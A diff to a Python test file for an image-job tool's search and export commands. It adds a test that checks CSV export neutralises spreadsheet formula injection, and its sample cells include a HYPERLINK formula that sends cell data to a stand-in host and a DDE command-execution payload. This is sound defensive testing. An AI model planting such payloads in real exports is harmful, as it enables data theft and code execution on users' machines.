@@ -136,3 +136,44 @@ def test_get_downloads_images_and_records_and_skips_identical_files(home: Home, 
 def test_get_errors(home: Home, tmp_path: Path, args: list[str], code: int, message: str) -> None:
     result = home.run("get", *args, "-o", str(tmp_path / "out"))
     assert result.exit_code == code and message in result.output
+
+
+FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "-2+3", "\tleading tab", "\rleading cr"]
+
+
+def test_csv_cells_that_spreadsheets_would_run_are_neutralised_and_json_is_exact(home: Home
+                                                                                 ) -> None:
+    home.add_job(FORMULAS, item_tags=[["=1+2"]] * len(FORMULAS), name="=cmd()",
+                 tags=["@evil"])
+    rows = list(csv.DictReader(io.StringIO(home.run("search", "--csv").output)))
+    assert sorted(row["prompt"] for row in rows) == sorted("'" + p for p in FORMULAS)
+    assert {row["tags"] for row in rows} == {"'=1+2"}
+    assert {row["seed"] for row in rows} == {str(100 + n) for n in range(len(FORMULAS))}
+    records = json.loads(home.run("search", "--json").output)
+    assert sorted(r["prompt"] for r in records) == sorted(FORMULAS)
+    assert {tuple(r["tags"]) for r in records} == {("=1+2",)}
+    [job] = list(csv.DictReader(io.StringIO(home.run("jobs", "--csv").output)))
+    assert job["name"] == "'=cmd()" and job["tags"] == "'@evil"
+    assert json.loads(home.run("jobs", "--json").output)[0]["name"] == "=cmd()"
+
+
+def test_bare_words_dash_words_and_empty_queries_on_both_databases(any_home: Home) -> None:
+    any_home.add_job(["a red fox", "a red barn", "a cat -cat", "a castle <lora:add_detail:0.8>"])
+
+    def seeds(*args: str) -> list[int]:
+        result = any_home.run("search", *args, "--json")
+        assert result.exit_code == 0, result.output
+        return sorted(r["seed"] for r in json.loads(result.output))
+
+    assert seeds("red", "fox") == [100]          # every bare word must match
+    assert seeds("red") == [100, 101]
+    assert seeds("-cat") == [102]                # a word, not an option
+    assert seeds("--limit", "1", "-cat") == [102]
+    assert seeds("<lora:add_detail:0.8>") == [103]
+    assert seeds("add_detail") == [103]
+    empty = any_home.run("search", '"')
+    assert empty.exit_code == 2 and "nothing to search for in '\"'" in empty.output
+    typo = any_home.run("search", "fox", "--lmit", "3")
+    assert typo.exit_code == 2 and "no such option --lmit" in typo.output
+    assert seeds('"--lmit"') == []
